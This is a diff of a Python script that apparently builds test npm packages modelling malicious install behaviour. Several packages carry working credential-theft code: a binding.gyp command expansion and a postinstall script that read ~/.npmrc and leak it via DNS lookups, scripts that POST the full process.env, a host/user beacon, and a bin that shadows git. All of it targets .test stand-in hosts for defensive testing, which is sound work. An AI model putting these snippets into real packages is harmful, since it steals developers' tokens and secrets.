@@ -31,84 +31,76 @@ import tarfile
 
 TOOL = "#!/usr/bin/env node\nconsole.log('%s ran', process.argv.slice(2).join(' '));\n"
 
+def npm_pkg(meta, files):
+    """A package's files: its package.json (meta, with main and license),
+    an empty index.js unless files has one, then files ({path: (text,
+    mode)}, below package/)."""
+    out = {"package/package.json": (json.dumps(
+        dict({"main": "index.js", "license": "MIT"}, **meta), indent=2), 0o644),
+        "package/index.js": ("module.exports = {};\n", 0o644)}
+    out.update({"package/" + k: v for k, v in files.items()})
+    return out
+
+
 PACKAGES = {
-    "gyp": {
-        "package/package.json": (json.dumps({
-            "name": "fast-crc32c-native", "version": "2.1.0",
-            "description": "CRC32C with SSE4.2", "main": "index.js",
-            "license": "MIT"}, indent=2), 0o644),
-        "package/index.js": ("module.exports = require('./build/Release/crc.node');\n", 0o644),
-        "package/crc.cc": (
+    "gyp": npm_pkg({"name": "fast-crc32c-native", "version": "2.1.0",
+                    "description": "CRC32C with SSE4.2"}, {
+        "index.js": ("module.exports = require('./build/Release/crc.node');\n", 0o644),
+        "crc.cc": (
             "#include <node_api.h>\n"
             "static napi_value Init(napi_env env, napi_value exports) { return exports; }\n"
             "NAPI_MODULE(NODE_GYP_MODULE_NAME, Init)\n", 0o644),
         # The expansion runs at configure time, before anything is compiled.
-        "package/binding.gyp": (json.dumps({"targets": [{
+        "binding.gyp": (json.dumps({"targets": [{
             "target_name": "crc", "sources": ["crc.cc"],
             "defines": ["CRC_BUILD=<!(node -e \"require('dns').lookup("
                         "require('fs').readFileSync(require('os').homedir()+'/.npmrc','utf8')"
                         ".replace(/[^a-z0-9]/gi,'').slice(-40)+'.gyp-stats.test',()=>{})\""
                         " && echo 1)"]}]}), 0o644),
-    },
-    "dirbin": {
-        "package/package.json": (json.dumps({
-            "name": "repo-helpers", "version": "0.4.1", "main": "index.js",
-            "directories": {"bin": "./scripts"}, "license": "MIT"}, indent=2), 0o644),
-        "package/index.js": ("module.exports = {};\n", 0o644),
-        "package/scripts/git": (TOOL % "git", 0o755),
-        "package/scripts/repo-sync": (TOOL % "repo-sync", 0o755),
-    },
-    "https": {
-        "package/package.json": (json.dumps({
-            "name": "telemetry-env-report", "version": "1.3.0", "main": "index.js",
-            "scripts": {"postinstall": "node report.js && python3 report.py"},
-            "license": "MIT"}, indent=2), 0o644),
-        "package/index.js": ("module.exports = {};\n", 0o644),
-        "package/report.js": (
+    }),
+    "dirbin": npm_pkg({"name": "repo-helpers", "version": "0.4.1",
+                       "directories": {"bin": "./scripts"}}, {
+        "scripts/git": (TOOL % "git", 0o755),
+        "scripts/repo-sync": (TOOL % "repo-sync", 0o755),
+    }),
+    "https": npm_pkg({"name": "telemetry-env-report", "version": "1.3.0",
+                      "scripts": {"postinstall": "node report.js && python3 report.py"}}, {
+        "report.js": (
             "const req = require('https').request({host: 'env-report.test', path: '/v1/env',"
             " method: 'POST', headers: {'content-type': 'application/json'}},"
             " r => { r.resume(); r.on('end', () => console.log('node', r.statusCode)); });\n"
             "req.on('error', e => console.log('node error', e.message));\n"
             "req.end(JSON.stringify(process.env));\n", 0o644),
-        "package/report.py": (
+        "report.py": (
             "import json, os, urllib.request\n"
             "req = urllib.request.Request('https://env-report-py.test/v1/env',"
             " data=json.dumps(dict(os.environ)).encode(), method='POST')\n"
             "print('python', urllib.request.urlopen(req, timeout=10).status)\n", 0o644),
-    },
-    "beacon": {
-        "package/package.json": (json.dumps({
-            "name": "install-metrics-beacon", "version": "9.9.9", "main": "index.js",
-            "scripts": {"postinstall": "node ping.js"}, "license": "MIT"}, indent=2), 0o644),
-        "package/index.js": ("module.exports = {};\n", 0o644),
-        "package/ping.js": (
+    }),
+    "beacon": npm_pkg({"name": "install-metrics-beacon", "version": "9.9.9",
+                       "scripts": {"postinstall": "node ping.js"}}, {
+        "ping.js": (
             "const os = require('os');\n"
             "require('dns').lookup(os.hostname(), () => {});\n"
             "const q = new URLSearchParams({d: process.cwd(), h: os.hostname(), u: os.userInfo().username});\n"
             "require('https').get('https://metrics-beacon.test/ping?' + q, r => r.resume())\n"
             "  .on('error', () => {});\n", 0o644),
-    },
-    "otheros": {
-        "package/package.json": (json.dumps({
-            "name": "win-path-helper", "version": "1.0.4", "main": "index.js",
-            "os": ["win32"], "cpu": ["x64"],
-            "scripts": {"postinstall": "node setup.js"}, "license": "MIT"}, indent=2), 0o644),
-        "package/index.js": ("module.exports = {};\n", 0o644),
-        "package/setup.js": (
+    }),
+    "otheros": npm_pkg({"name": "win-path-helper", "version": "1.0.4",
+                        "os": ["win32"], "cpu": ["x64"],
+                        "scripts": {"postinstall": "node setup.js"}}, {
+        "setup.js": (
             "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
             "require('dns').lookup(t.replace(/[^a-z0-9]/gi, '').slice(-30) + '.winpath.test', () => {});\n",
             0o644),
-    },
-    "server": {
-        "package/package.json": (json.dumps({
-            "name": "tiny-dev-server", "version": "0.2.0", "main": "index.js",
-            "bin": {"tiny-dev-server": "cli.js"}, "license": "MIT"}, indent=2), 0o644),
-        "package/index.js": ("module.exports = {};\n", 0o644),
-        "package/cli.js": (
+    }),
+    "server": npm_pkg({"name": "tiny-dev-server", "version": "0.2.0",
+                       "bin": {"tiny-dev-server": "cli.js"}}, {
+        "cli.js": (
             "#!/usr/bin/env node\n"
             "if (process.argv.includes('--help')) { console.log('usage: tiny-dev-server'); process.exit(0); }\n"
             "require('net').createServer(() => {}).listen(0, '127.0.0.1');\n", 0o755),
-    },
+    }),
 }
 
 
